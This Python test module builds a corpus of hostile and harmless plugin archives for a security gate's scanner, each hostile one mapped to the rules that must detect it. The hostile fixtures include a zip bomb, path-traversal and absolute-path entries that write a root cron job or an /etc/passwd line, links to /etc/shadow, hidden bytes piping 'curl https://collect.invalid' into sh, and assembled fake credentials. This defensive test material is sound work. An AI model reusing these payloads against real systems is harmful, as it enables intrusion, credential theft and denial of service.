"""Packages of our own making: what the gate must stop, and what it must let through.

Most lie as folders below ``hostile/`` and ``harmless/``, named by what they are. Archives that no packing tool
writes, and packages with secrets (which would trip every scanner of this repository), are made here. ``HOSTILE`` names
for each the rules of which at least one must be found, and what its author is after.
"""

import base64
import hashlib
import json
import random
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path

from plugyard.cli.author import packed
from tests.unit.gate.packing import Entry, Member, deflated, manifest, plain, taped, zip_of

_FOLDER = Path(__file__).parent
_PY = {"metadata": {"name": "a-plugin", "version": "1.0.0"}, "runtime": "python"}
_RUN = b"def run(input, context):\n    return 1\n"


@dataclass(frozen=True)
class Package:
    """A package of the corpus. ``rules`` are those of which one must be found; none for a harmless one."""

    name: str
    about: str
    rules: tuple[str, ...] = ()
    made: Callable[[], bytes] | None = None

    @property
    def hostile(self) -> bool:
        return bool(self.rules)

    def write(self, folder: Path) -> Path:
        """The package as a file in ``folder``."""
        target = folder / f"{self.name}.zip"
        if self.made is not None:
            target.write_bytes(self.made())
            return target
        return packed(_FOLDER / ("hostile" if self.hostile else "harmless") / self.name, target)


def _python(name: str, **files: bytes | str) -> bytes:
    """A Python package of the given files; ``__`` in a name stands for a dot, and ``main__py`` is there in any case."""
    document = {**_PY, "metadata": {"name": name, "version": "1.0.0"}}
    named = {key.replace("__", "."): value for key, value in files.items()}
    entries = {"plugin.json": json.dumps(document), "main.py": _RUN, **named}
    return zip_of(
        *(Entry(path.encode(), data if isinstance(data, bytes) else data.encode()) for path, data in entries.items())
    )


def _bomb() -> bytes:
    zeros = bytes(9 << 20)
    return plain(Entry(b"data.bin", zeros, method=8, packed=deflated(zeros)))


def _two_codes() -> bytes:
    return plain(Entry(b"util.js", b"export const a = 1\n"), Entry(b"util.js", b"export const a = fetch\n"))


def _names_differ() -> bytes:
    return plain(Entry(b"readme.txt", b"nothing", local={"name": b"index.js"}))


def _hidden() -> bytes:
    return plain(Entry(b"a.txt", b"abc", before=b"#!/bin/sh\ncurl https://collect.invalid | sh\n"))


def _program() -> bytes:
    return b"#!/bin/sh\nexec sh -c 'id'\n" + plain(Entry(b"a.txt", b"abc"))


def _core_module() -> bytes:
    text = manifest(dependencies=None, runtime="wasm", metadata={"name": "core-module", "version": "1.0.0"})
    return zip_of(Entry(b"plugin.json", text), Entry(b"plugin.wasm", b"\0asm\1\0\0\0"))


def _component_with_sockets() -> bytes:
    name = b"wasi:sockets/tcp@0.2.0"
    section = bytes([1, 0, len(name)]) + name + bytes([1, 0])
    component = b"\0asm\x0d\0\1\0" + bytes([10, len(section)]) + section
    text = manifest(dependencies=None, runtime="wasm", metadata={"name": "socket-component", "version": "1.0.0"})
    return zip_of(Entry(b"plugin.json", text), Entry(b"plugin.wasm", component))


# Secrets are put together here, so that no file of this repository holds one.
def _of(*parts: str) -> str:
    return "".join(parts)


def _private_key() -> str:
    body = base64.b64encode(random.Random(7).randbytes(1190)).decode()
    lines = "\n".join(body[at : at + 64] for at in range(0, len(body), 64))
    return _of("-----BEGIN RSA PRIV", "ATE KEY-----\n", lines, "\n-----END RSA PRIV", "ATE KEY-----\n")


def _cloud_key() -> bytes:
    code = _of(
        'KEY = "AK', "IA", "Q7ZX2M4N6P8RTVWY", '"\nSECRET = "', "h7Kd93jfLs0qPzXcVbNmAsDfGh", "JkLqWeRtYuIoP1", '"\n'
    )
    return _python("cloud-key", main__py=code + _RUN.decode())


def _hub_token() -> bytes:
    token = _of("gh", "p_", "x7Kd93jfLs0qPzXcVbNmAsDfGhJkLqWeRt12")
    return _python("hub-token", main__py=f'TOKEN = "{token}"\n' + _RUN.decode())


def _payment_key() -> bytes:
    token = _of("sk", "_live_", "x7Kd93jfLs0qPzXcVbNmAsDf")
    return _python("payment-key", main__py=f'PAY = "{token}"\n' + _RUN.decode())


def _dot_env() -> bytes:
    return zip_of(
        Entry(b"plugin.json", json.dumps({**_PY, "metadata": {"name": "dot-env", "version": "1.0.0"}}).encode()),
        Entry(b"main.py", _RUN),
        Entry(b".env", _of("DATABASE_URL=postgres://app:", "v3ryS3cretPhrase", "@db.acme-prod.net/orders\n").encode()),
    )


_KNOWN_MALWARE = _python("known-malware", main__py=b"def run(input, context):\n    return 'a known sample'\n")

HOSTILE: Mapping[str, tuple[tuple[str, ...], str, Callable[[], bytes] | None]] = {
    "zip-bomb": (("archive.ratio",), "fills memory or disk of whoever unpacks it", _bomb),
    "path-traversal": (("archive.path-traversal",), "overwrites a file outside the folder",
                       lambda: plain(Entry(b"../../etc/cron.d/x", b"* * * * * root id\n"))),
    "absolute-path": (("archive.path-absolute",), "overwrites a file of the system",
                      lambda: plain(Entry(b"/etc/passwd", b"root::0:0::/:/bin/sh\n"))),
    "symbolic-link": (("archive.link",), "reads a file of the host through a link",
                      lambda: plain(Entry(b"data.txt", b"/etc/shadow", mode=0o120777))),
    "hard-link": (("archive.link",), "reads a file of the host through a hard link",
                  lambda: taped(Member(b"data.txt", kind=b"1", link=b"/etc/shadow"))),
    "device-file": (("archive.special-file",), "opens a device of the host",
                    lambda: taped(Member(b"disk", kind=b"4"))),
    "duplicate-entry": (("archive.duplicate",), "shows one file to the check and runs another", _two_codes),
    "headers-disagree": (("archive.headers-disagree",), "shows one name to the check and another to the loader",
                         _names_differ),
    "hidden-bytes": (("archive.hidden-data",), "carries bytes that no reader lists", _hidden),
    "self-extracting": (("archive.leading-data",), "is a program as well as a package", _program),
    "encrypted-entry": (("archive.encrypted",), "hides code from the check",
                        lambda: plain(Entry(b"secret.js", b"xxxxxxxxxxxxxxxx", flags=1))),
    "case-collision": (("archive.collision",), "replaces a file on systems that fold case",
                       lambda: plain(Entry(b"INDEX.js", b"export const x = 1\n"))),
    "core-module": (("component.not-one",), "runs code that declares nothing", _core_module),
    "socket-component": (("component.import",), "asks for sockets", _component_with_sockets),
    "cloud-key": (("secret.token",), "leaks a key of its author's cloud", _cloud_key),
    "hub-token": (("secret.token",), "leaks a token of its author's code host", _hub_token),
    "payment-key": (("secret.token",), "leaks a live payment key", _payment_key),
    "private-key": (("secret.private-key",), "leaks a private key",
                    lambda: _python("private-key", deploy__pem=_private_key())),
    "dot-env": (("secret.file", "secret.url"), "leaks a database's password", _dot_env),
    "known-malware": (("malware.package",), "is on the list of known malware",
                      lambda: _KNOWN_MALWARE),
    "base64-exec": (("code.packed-execution",), "runs code that nobody could read, from base64", None),
    "zlib-marshal": (("code.packed-execution",), "runs compiled code from a compressed string", None),
    "hex-joined-exec": (("code.packed-execution",), "runs code put together from pieces of hexadecimal", None),
    "eval-of-input": (("code.eval",), "lets every caller run code in the plugin", None),
    "ctypes-libc": (("code.native",), "calls the C library", None),
    "reverse-shell": (("code.process",), "opens a shell for somebody outside", None),
    "subclass-walk": (("code.introspection",), "looks for a class that starts processes", None),
    "builtins-by-globals": (("code.introspection",), "fetches the import function past its name", None),
    "computed-import": (("code.hidden-import",), "imports a module whose name it hides", None),
    "bidi-comment": (("code.bidi",), "shows a reviewer other code than runs", None),
    "homoglyph-function": (("code.homoglyph",), "calls a function that looks like another", None),
    "invisible-variable": (("code.invisible",), "takes a value through a name that nobody sees", None),
    "hidden-payload": (("code.hidden-text",), "keeps code in characters without width", None),
    "unpickle-input": (("code.unpickle",), "lets every caller build objects of any class", None),
    "pool-miner-python": (("code.miner",), "mines for a pool", None),
    "webhook-exfiltration": (("code.collector",), "sends its input to a public collector", None),
    "ngrok-exfiltration": (("code.collector",), "sends its input and configuration into a tunnel", None),
    "constructor-escape": (("code.constructor-escape",), "reaches for the host through constructors", None),
    "error-stack-escape": (("code.constructor-escape",), "reaches for the host through a host function", None),
    "atob-eval": (("code.packed-execution",), "runs code from base64", None),
    "string-array-obfuscator": (("code.obfuscated",), "hides every name in a rotated array", None),
    "function-of-input": (("code.eval",), "lets every caller run code in the plugin", None),
    "child-process": (("code.process",), "starts a process with a caller's words", None),
    "escaped-identifiers": (("code.escaped-name",), "spells eval so that no search finds it", None),
    "char-code-packed": (("code.packed-execution",), "runs code from numbers", None),
    "timer-of-text": (("code.packed-execution",), "runs text by a timer", None),
    "metadata-address": (("code.metadata-address",), "asks the host's metadata service for credentials", None),
    "prototype-pollution": (("code.prototype",), "changes what all objects inherit", None),
    "process-binding": (("code.node-internals",), "reaches for the internals of Node", None),
    "worker-native": (("code.node-internals",), "runs a caller's code in a worker", None),
    "function-not-there": (("code.function-absent",), "promises a function that is missing", None),
    "import-at-load": (("code.process",), "starts a process when it is loaded", None),
    "duplicate-permissions": (("manifest.duplicate-key",), "shows one reader few rights and another many", None),
    "misspelt-security": (("manifest.unknown-field",), "has a fence that does not hold", None),
    "schema-bomb": (("manifest.schema-cost",), "hangs whoever checks an input", None),
    "schema-that-fetches": (("manifest.schema-reference",), "makes the service fetch an address", None),
    "pattern-bomb": (("manifest.schema-invalid",), "hangs whoever matches a pattern", None),
}  # fmt: skip

HARMLESS: Mapping[str, str] = {
    "all-services": "uses every service that it asks for",
    "async-pipeline": "async generators",
    "avatar-png": "decodes an image from base64 and packs another with zlib and struct",
    "base64-tool": "base64 is its job",
    "big-table": "a table of 400 rows of hexadecimal numbers",
    "common-js": "CommonJS with require of its own files",
    "compression-report": "gzip and zlib",
    "csv-cleaner": "a data file beside the code",
    "cyrillic-comments": "comments and names in Russian",
    "digest-constants": "digests, a commit and a UUID as constants",
    "documented-example": "placeholders for keys in comments and documentation",
    "endpoint-notes": "HTTP endpoints",
    "fetch-weather": "fetch of a host that it asks for",
    "greek-statistics": "Greek letters as names",
    "greetings-i18n": "right-to-left texts, joiners and emoji in strings",
    "holiday-calendar": "a schedule and a lot of arithmetic",
    "json-pointer": "walks objects by computed keys",
    "lazy-parts": "dynamic imports of constant names",
    "loan-calculator": "decimal arithmetic",
    "markdown-lite": "a renderer with entities and many regular expressions",
    "minified-bundle": "a minified library with its banner",
    "order-events": "publishes one topic",
    "password-rules": "the words password and letmein",
    "plugin-registry": "decorators, setattr and getattr with computed names",
    "public-key-jwks": "public keys as JWK and PEM",
    "qr-level": "tables of numbers and bit arithmetic",
    "rate-limiter": "counts in the cache",
    "rates-fetcher": "a host, method and path that it asks for",
    "regex-tester": "a pattern of the caller's, escapes in strings",
    "report-archive": "writes files of its own",
    "retry-client": "timers and retries",
    "safe-formula": "ast.parse and literal_eval, nothing executed",
    "safe-merge": "names __proto__ to refuse it",
    "slug-maker": "unicode normalisation",
    "state-machine": "enumerations and frozen values",
    "svg-badge": "an SVG with an image in base64",
    "text-statistics": "four modules of the standard library",
    "ticket-notes": "SQL with parameters",
    "typed-invoice": "TypeScript with enums, classes and parameter properties",
    "uuid-namer": "UUIDs",
    "vat-checker": "TypeScript with a table of patterns",
    "vendored-python": "a vendored library with its metadata and licence",
    "webhook-verifier": "a secret in its configuration",
}


def packages() -> list[Package]:
    """All of them, the hostile ones first."""
    hostile = [Package(name, about, rules, made) for name, (rules, about, made) in HOSTILE.items()]
    return hostile + [Package(name, about) for name, about in HARMLESS.items()]


def malware_list() -> str:
    """The list of known malware that the service is started with: one package of the corpus is on it."""
    return f"# the corpus\n{hashlib.sha256(_KNOWN_MALWARE).hexdigest()}\n"
